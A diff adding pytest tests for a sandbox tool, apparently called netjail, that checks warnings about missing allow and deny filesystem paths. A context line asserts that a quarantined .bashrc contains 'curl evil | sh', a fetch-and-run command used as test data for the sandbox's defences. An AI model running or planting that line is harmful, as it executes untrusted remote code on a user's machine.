@@ -225,3 +225,50 @@ def test_protected_names_that_did_not_exist_are_quarantined_after_the_run(netjai
         Path(next(r["moved_to"] for r in quarantined if r["path"].endswith(".bashrc")))
     ).read_text() == "curl evil | sh\n"
     assert result.stderr.count("(a protected name)") == 2
+
+
+def test_entries_that_do_not_exist_are_said_at_start_with_their_resolved_path(netjail: Netjail) -> None:
+    (netjail.work / "present").mkdir()
+    (netjail.work / "sub").mkdir()
+    cfg = netjail.settings(
+        filesystem={
+            "allowWrite": [".", "present", "missing-dir", "/nonexistent-netjail-test/*.cache"],
+            "allowRead": ["also-missing"],
+            "denyRead": ["~/.netjail-test-absent-credentials", "present"],
+        }
+    )
+    result = netjail.run("-s", str(cfg), "-c", "true", cwd=netjail.work / "sub")
+    assert result.returncode == 0, result.explain()
+    warnings = [line for line in result.stderr.splitlines() if line.startswith("netjail: warning:")]
+    # relative entries resolve against the working directory (srt's meaning): `present` is sub/present here
+    assert any(
+        f"'present' is {netjail.work}/sub/present, which does not exist (relative" in w for w in warnings
+    )
+    assert any(
+        f"'missing-dir' is {netjail.work}/sub/missing-dir, which does not exist" in w for w in warnings
+    )
+    assert any(
+        "'/nonexistent-netjail-test/*.cache' is" in w and "which matches nothing" in w for w in warnings
+    )
+    assert any(
+        f"filesystem.allowRead: 'also-missing' is {netjail.work}/sub/also-missing" in w for w in warnings
+    )
+    assert not any("denyRead" in w or "'.'" in w for w in warnings), warnings  # no flood; "." exists
+    control = netjail.run("-s", str(cfg), "-c", "true", cwd=netjail.work)  # from the settings' own directory
+    assert not any("'present'" in line for line in control.stderr.splitlines()), control.explain()
+
+
+def test_absent_deny_read_entries_are_noted_by_debug_and_explain(netjail: Netjail) -> None:
+    cfg = netjail.settings(filesystem={"denyRead": ["~/.netjail-test-absent-credentials"]})
+    note = (
+        "~/.netjail-test-absent-credentials ("
+        + str(Path.home())
+        + "/.netjail-test-absent-credentials): absent: "
+    )
+    note += "readable if created during the run"
+    debug = netjail.run("-d", "-s", str(cfg), "-c", "true")
+    assert debug.returncode == 0 and "jail.absent" in debug.stderr and note in debug.stderr, debug.explain()
+    warned = [line for line in debug.stderr.splitlines() if line.startswith("netjail: warning:")]
+    assert not any("netjail-test-absent" in line for line in warned), warned  # said, not warned
+    shown = netjail.command("explain", "-s", str(cfg))
+    assert note in shown.stdout, shown.stdout
